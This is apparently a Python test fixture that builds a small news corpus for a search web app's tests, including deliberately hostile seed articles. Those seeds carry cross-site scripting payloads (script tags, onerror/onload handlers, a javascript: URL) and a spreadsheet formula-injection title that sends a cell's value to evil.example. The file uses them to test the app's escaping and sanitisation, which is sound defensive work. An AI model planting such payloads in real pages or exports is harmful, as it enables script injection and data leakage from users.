"""A small corpus for the web tests: known counts, several years, related articles, and hostile seeds."""

from __future__ import annotations

from pathlib import Path

from newssearch import index_seeds

from .conftest import related, write_seed

TOPICS = ("AI", "Policing", "Climate")
PROVIDERS = ("Daily Planet", "Gotham Gazette", "Metro News")
POLICE_SEEDS = 30  # "police" in every one: three pages of ten
HOSTILE_TITLE = '<script>window.__pwned = 1; alert(1)</script> Hostile <img src=x onerror="window.__pwned = 2">'
HOSTILE_URL = "javascript:alert(document.domain)"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1, "Click") police formula'
CONTROL_TITLE = "Bell \x07 and escape \x1b police control"
EXTRA_TOPICS = 6
RELATED_URL = "https://other.example/facial-follow-up"
FACIAL_URL = "https://example.com/facial-recognition-ban"


def write_corpus(folder: Path) -> Path:
    """Write the corpus into ``folder`` and return it."""
    for i in range(POLICE_SEEDS):
        year = 2018 + i % 5
        write_seed(
            folder,
            f"police_{i:02d}.txt",
            title=f"City police report number {i}",
            url=f"https://news.example/{year}/police-{i}",
            excerpt=f"The police department published report {i} about patrols.",
            body=f"Officers patrolled district {i}. The police chief spoke to the council.",
            topics=[TOPICS[i % 3]] + (["Budget"] if i % 4 == 0 else []),
            provider=PROVIDERS[i % 3],
            domain="news.example",
            published=f"{year}-{1 + i % 12:02d}-{1 + i % 27:02d}T10:00:00Z",
        )
    write_seed(
        folder,
        "facial.txt",
        title="Council bans facial recognition for police",
        url=FACIAL_URL,
        excerpt="The council voted to ban facial recognition technology.",
        body="Facial recognition systems misidentify people.\n\nThe ban starts next month.",
        topics=["AI", "Computer Vision"],
        provider="Fast Company",
        domain="fastcompany.com",
        published="2020-06-12T11:06:00Z",
        related=[related("Follow-up on the facial recognition vote", RELATED_URL, excerpt="What the vote means.")],
    )
    write_seed(
        folder,
        "hostile.txt",
        title=HOSTILE_TITLE,
        url=HOSTILE_URL,
        excerpt='hostile <b>bold</b> <svg onload="window.__pwned = 3"></svg> "quotes" & ampersands',
        body="</p><script>window.__pwned = 4</script> hostile body",
        topics=['<i onmouseover="window.__pwned=5">Hostile topic</i>'],
        provider="<script>window.__pwned = 6</script>Evil Provider",
        published="2021-03-03T03:03:03Z",
    )
    write_seed(folder, "formula.txt", title=FORMULA_TITLE, url="https://news.example/formula", topics=["Policing"],
               provider="@SUM(1+1)", published="2019-05-05T05:05:05Z")
    write_seed(folder, "control.txt", title=CONTROL_TITLE, url="https://news.example/control",
               excerpt="bell \x07 in the excerpt", published="2022-12-31T23:59:59Z")
    for i in range(EXTRA_TOPICS):  # a topic list long enough for the facet filter box
        write_seed(folder, f"misc_{i}.txt", title=f"Miscellany number {i}", url=f"https://misc.example/{i}",
                   topics=[f"Extra topic {i}"], published=f"2017-0{1 + i}-15T12:00:00Z")
    write_seed(folder, "undated.txt", title="An undated police note", url="https://news.example/undated", published=None)
    return folder


def build(tmp_path: Path) -> tuple[Path, Path]:
    """The corpus's seeds folder and an index of it, under ``tmp_path``."""
    seeds = write_corpus(tmp_path / "seeds")
    index_dir = tmp_path / "index"
    index_seeds([seeds], index_dir, workers=1)
    return seeds, index_dir


def without_time(data: dict) -> dict:
    """A JSON answer without its ``took_ms``, the one field two equal searches may differ in."""
    data = dict(data)
    data.pop("took_ms")
    return data
